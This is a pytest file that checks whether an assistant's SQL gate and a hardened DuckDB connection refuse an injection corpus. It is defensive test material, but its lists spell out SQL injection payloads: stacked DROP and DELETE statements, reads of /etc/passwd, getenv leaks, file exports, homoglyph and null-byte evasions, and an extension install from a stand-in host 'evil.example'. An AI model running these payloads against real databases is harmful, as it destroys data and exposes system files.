"""Hostile input: an injection corpus typed as questions and handed to the SQL gate as raw SQL.

Every string must be refused or answered harmlessly, and the database must be unchanged afterwards
(same tables, row counts and content checksum). Behind the gate, the hardened connection itself
refuses file, extension and configuration access, so a gap in validation would still not reach
the machine.
"""

from __future__ import annotations

import os

import duckdb
import pytest

from assistant.answer import Engine
from assistant.errors import RefusedQuery
from assistant.validate import accept

# Files some hostile strings try to create; none may exist after the tests.
OUT = "/tmp/dpa_hostile_out"
# (id, text): each is hostile both as a question and as raw SQL.
CORPUS = [
    # stacked statements
    ("stacked-drop", "SELECT * FROM agreements; DROP TABLE agreements"),
    ("stacked-delete", "SELECT 1 FROM agreements LIMIT 1; DELETE FROM agreements"),
    ("stacked-update", "select count(*) from agreements limit 1;update agreements set title='x'"),
    ("stacked-insert", "1; INSERT INTO agreements SELECT * FROM agreements"),
    ("quote-break-drop", "'; DROP TABLE countries; --"),
    ("paren-quote-break", "France'); DROP TABLE agreements;--"),
    ("stacked-pragma", "SELECT * FROM agreements LIMIT 5 OFFSET 0; PRAGMA show_tables"),
    ("stacked-many", "SELECT * FROM agreements LIMIT 5;" * 500),
    # statements that write, configure or reach outside
    ("attach-file", f"ATTACH '{OUT}.duckdb' AS evil"),
    ("attach-memory", "ATTACH DATABASE ':memory:' AS m"),
    ("detach", "DETACH agreements"),
    ("copy-to", f"COPY agreements TO '{OUT}.csv'"),
    ("copy-query-to", f"COPY (SELECT * FROM agreements) TO '{OUT}.parquet' (FORMAT parquet)"),
    ("copy-from", "COPY agreements FROM '/etc/passwd'"),
    ("export", f"EXPORT DATABASE '{OUT}_dump'"),
    ("import", f"IMPORT DATABASE '{OUT}_dump'"),
    ("install", "INSTALL httpfs"),
    ("force-install", "FORCE INSTALL httpfs FROM 'http://evil.example'"),
    ("load", "LOAD httpfs"),
    ("pragma-list", "PRAGMA database_list"),
    ("pragma-set", "PRAGMA enable_external_access=true"),
    ("set", "SET enable_external_access = true"),
    ("set-global", "SET GLOBAL threads = 64"),
    ("reset", "RESET lock_configuration"),
    ("call", "CALL pragma_version()"),
    ("create-table", "CREATE TABLE x AS SELECT * FROM agreements"),
    ("create-macro", "CREATE MACRO evil() AS getenv('HOME')"),
    ("drop-view", "DROP VIEW agreement_parties"),
    ("update", "UPDATE agreements SET title = 'pwned'"),
    ("delete", "DELETE FROM agreements WHERE true"),
    ("alter", "ALTER TABLE agreements RENAME TO a"),
    ("checkpoint", "CHECKPOINT"),
    ("vacuum", "VACUUM"),
    ("begin", "BEGIN TRANSACTION"),
    ("prepare", "PREPARE p AS DELETE FROM agreements"),
    ("use", "USE evil"),
    ("select-into", "SELECT * INTO newtable FROM agreements LIMIT 5"),
    ("summarize", "SUMMARIZE agreements"),
    ("describe", "DESCRIBE agreements"),
    ("show-tables", "SHOW TABLES"),
    # file and environment access from inside a SELECT
    ("read-csv", "SELECT * FROM read_csv('/etc/passwd') LIMIT 5"),
    ("read-csv-auto", "SELECT * FROM read_csv_auto('/etc/passwd') LIMIT 5"),
    ("read-parquet", "SELECT * FROM read_parquet('/tmp/*.parquet') LIMIT 5"),
    ("read-json-union", "SELECT title FROM agreements UNION ALL SELECT * FROM read_json('/etc/hosts') LIMIT 5"),
    ("read-text-subquery",
     "SELECT * FROM agreements WHERE title IN (SELECT content FROM read_text('/etc/passwd')) LIMIT 5"),
    ("read-csv-cte", "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x LIMIT 5"),
    ("read-csv-join", "SELECT * FROM agreements, (SELECT * FROM read_csv('/etc/passwd')) LIMIT 5"),
    ("glob", "SELECT * FROM glob('/*') LIMIT 5"),
    ("replacement-scan", "SELECT * FROM '/etc/passwd' LIMIT 5"),
    ("replacement-scan-quoted", 'SELECT * FROM "/etc/passwd.csv" LIMIT 5'),
    ("getenv", "SELECT getenv('HOME') FROM agreements LIMIT 1"),
    ("current-setting", "SELECT current_setting('enable_external_access') FROM agreements LIMIT 1"),
    ("duckdb-settings", "SELECT * FROM duckdb_settings() LIMIT 5"),
    ("sqlite-scan", "SELECT * FROM sqlite_scan('/tmp/x.db', 't') LIMIT 1"),
    ("query-function", "SELECT * FROM query('DROP TABLE agreements') LIMIT 1"),
    ("query-table-function", "SELECT * FROM query_table('agreements') LIMIT 1"),
    ("information-schema", "SELECT * FROM information_schema.tables LIMIT 5"),
    ("catalog-qualified", "SELECT * FROM evil.main.agreements LIMIT 5"),
    ("other-table", "SELECT * FROM duckdb_tables LIMIT 5"),
    ("pragma-table", "SELECT * FROM pragma_database_list LIMIT 5"),
    # limits
    ("no-limit", "SELECT * FROM agreements"),
    ("huge-limit", "SELECT * FROM agreements LIMIT 999999"),
    ("subquery-limit", "SELECT * FROM agreements LIMIT (SELECT 5)"),
    # comments and quoting tricks
    ("comment-stack", "SELECT * FROM agreements /* x */; DROP TABLE agreements -- LIMIT 5"),
    ("line-comment-stack", "SELECT * FROM agreements LIMIT 5 -- c\n; DROP TABLE agreements"),
    ("unterminated-comment", "SELECT * FROM agreements LIMIT 5 /* ; DROP TABLE agreements"),
    ("quote-close-stack", "SELECT * FROM agreements WHERE title = '' ; DROP TABLE agreements; --' LIMIT 5"),
    ("dollar-quote-stack", "SELECT $$x$$ FROM agreements LIMIT 1; DROP TABLE agreements"),
    ("unicode-escape", "SELECT * FROM agreements WHERE title = U&'\\0027'; DROP TABLE agreements; -- LIMIT 5"),
    ("or-1-1", "France' OR 1=1 --"),
    ("union-select", "x' UNION SELECT code, name FROM countries --"),
    # null bytes, homoglyphs, very long and deeply nested input
    ("null-byte-stack", "SELECT * FROM agreements LIMIT 5\x00; DROP TABLE agreements"),
    ("null-byte-only", "\x00"),
    ("null-byte-read", "SELECT * FROM read_csv('/etc/passwd\x00.csv') LIMIT 5"),
    ("fullwidth-stack", "ＳＥＬＥＣＴ * ＦＲＯＭ agreements; ＤＲＯＰ ＴＡＢＬＥ agreements"),
    ("cyrillic-select", "SЕLЕCT * FROM agreements; DROP TABLE agreements"),
    ("cyrillic-attach", f"АTTACH '{OUT}.duckdb'"),
    ("fullwidth-semicolon", "SELECT * FROM agreements LIMIT 5； DROP TABLE agreements"),
    ("zero-width", "SEL\u200bECT * FROM agreements; DR\u200bOP TABLE agreements"),
    ("rtl-override", "SELECT * FROM agreements LIMIT 5 \u202e; DROP TABLE agreements"),
    ("long-garbage", "x" * 100_000),
    ("long-quotes", "'" * 50_001),
    ("deep-parens", "(" * 5000 + "SELECT 1" + ")" * 5000),
    ("long-or-chain", "SELECT * FROM agreements WHERE " + " OR ".join(["1=1"] * 3000) + "; DROP TABLE agreements"),
]
# Legitimate SELECTs the gate must let through (they run, harmlessly).
CONTROLS = [
    ("count", "SELECT COUNT(*) AS n FROM agreements LIMIT 1"),
    ("list", "SELECT agreement_id, title FROM agreements WHERE year >= 2022 ORDER BY signed_date LIMIT 50"),
    ("join-view", "SELECT c.name, COUNT(*) AS n FROM agreement_parties AS p JOIN countries AS c "
                  "ON c.code = p.country_code GROUP BY c.name ORDER BY n DESC LIMIT 10"),
    ("list-contains", "SELECT agreement_id FROM agreements WHERE list_contains(parties, 'FR') LIMIT 100"),
    ("quoted-semicolon", "SELECT agreement_id FROM agreements WHERE title = 'a'' ; DROP TABLE x; --' LIMIT 5"),
]
SAFE_STATUSES = ("unsupported", "clarify")


def fingerprint(engine: Engine) -> tuple:
    """Tables, row counts and a checksum of the content: equal before and after means unchanged."""
    run = engine.db.execute
    tables = tuple(run("SELECT database_name, schema_name, table_name FROM duckdb_tables() "
                       "ORDER BY ALL LIMIT 100").rows)
    views = tuple(run("SELECT view_name FROM duckdb_views() WHERE NOT internal ORDER BY ALL LIMIT 100").rows)
    agreements = run("SELECT COUNT(*), SUM(hash(agreement_id, title, signed_date, date_precision, year, parties, "
                     "n_parties, scope, form, topics, mutual_defence_clause, summary, source_url)) "
                     "FROM agreements").rows[0]
    countries = run("SELECT COUNT(*), SUM(hash(code, name, eu_member, nato_member, region)) FROM countries").rows[0]
    parties = run("SELECT COUNT(*) FROM agreement_parties").rows[0]
    return tables, views, agreements, countries, parties


@pytest.fixture(scope="module")
def before(engine: Engine) -> tuple:
    return fingerprint(engine)


def _no_files_written() -> None:
    for suffix in (".duckdb", ".csv", ".parquet", "_dump"):
        assert not os.path.exists(OUT + suffix), f"{OUT + suffix} was created"


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 40
    assert len({name for name, _ in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("text", [t for _, t in CORPUS], ids=[n for n, _ in CORPUS])
def test_hostile_question_is_refused_or_harmless(engine: Engine, before: tuple, text: str):
    answer, _ = engine.answer(text)
    assert answer.status in ("ok", *SAFE_STATUSES)
    if answer.status == "ok":  # harmless only: what ran passed the gate and reads the contract's tables
        assert answer.sql and accept(answer.sql) == answer.sql
    else:
        assert answer.sql is None and answer.rows == []
    assert "Traceback" not in answer.answer
    assert fingerprint(engine) == before
    _no_files_written()


@pytest.mark.parametrize("text", [t for _, t in CORPUS], ids=[n for n, _ in CORPUS])
def test_hostile_follow_up_is_refused_or_harmless(engine: Engine, before: tuple, text: str):
    conversation = engine.conversation()
    conversation.ask("How many agreements did France sign?")
    answer = conversation.ask("And " + text)
    assert answer.status in ("ok", *SAFE_STATUSES)
    if answer.status == "ok":
        assert answer.sql and accept(answer.sql) == answer.sql
    assert fingerprint(engine) == before
    _no_files_written()


@pytest.mark.parametrize("sql", [t for _, t in CORPUS], ids=[n for n, _ in CORPUS])
def test_hostile_sql_is_refused_by_the_gate(sql: str):
    with pytest.raises(RefusedQuery) as refused:
        accept(sql)
    assert refused.value.message  # a message a user can read


@pytest.mark.parametrize("sql", [t for _, t in CONTROLS], ids=[n for n, _ in CONTROLS])
def test_legitimate_select_passes_the_gate_and_runs(engine: Engine, before: tuple, sql: str):
    accepted = accept(sql)
    result = engine.db.execute(accepted)
    assert result.columns
    assert fingerprint(engine) == before


# Behind the gate: statements the hardened connection refuses even if validation were bypassed.
BYPASS = [
    ("read-csv", "SELECT * FROM read_csv('/etc/passwd')"),
    ("read-text", "SELECT * FROM read_text('/etc/hostname')"),
    ("glob", "SELECT * FROM glob('/*')"),
    ("replacement-scan", "SELECT * FROM '/etc/passwd'"),
    ("getenv", "SELECT getenv('HOME')"),
    ("copy-to", f"COPY agreements TO '{OUT}.csv'"),
    ("export", f"EXPORT DATABASE '{OUT}_dump'"),
    ("attach-file", f"ATTACH '{OUT}.duckdb' AS evil"),
    ("attach-memory", "ATTACH ':memory:' AS m"),
    ("install", "INSTALL httpfs"),
    ("load", "LOAD httpfs"),
    ("set-external", "SET enable_external_access = true"),
    ("set-threads", "SET threads = 64"),
    ("reset-lock", "RESET lock_configuration"),
    ("create", "CREATE TABLE x AS SELECT 1 AS a"),
    ("drop", "DROP TABLE agreements"),
    ("delete", "DELETE FROM agreements"),
    ("update", "UPDATE agreements SET title = 'pwned'"),
]


@pytest.mark.parametrize("sql", [t for _, t in BYPASS], ids=[n for n, _ in BYPASS])
def test_hardened_connection_refuses_even_without_the_gate(engine: Engine, before: tuple, sql: str):
    with pytest.raises(duckdb.Error):  # Permission, InvalidInput or Catalog errors from DuckDB itself
        engine.db.execute(sql)
    assert fingerprint(engine) == before
    _no_files_written()


def test_database_unchanged_after_the_whole_corpus(engine: Engine, before: tuple):
    for _, text in CORPUS:
        engine.answer(text)
    assert fingerprint(engine) == before
    _no_files_written()


def test_a_query_running_too_long_is_interrupted_with_a_friendly_message(engine):
    """Defence in depth: even a query the gate admits cannot run unbounded."""
    from assistant.errors import AssistantError

    heavy = ("SELECT count(*) FROM agreements a, agreements b, agreements c, agreements d "
             "WHERE a.title < b.title LIMIT 1")
    with pytest.raises(AssistantError) as err:
        engine.db.execute(heavy, timeout=0.2)
    assert "took too long" in err.value.message
    assert engine.db.execute("SELECT count(*) FROM agreements").rows[0][0] == len(engine.db.dataset.agreements)
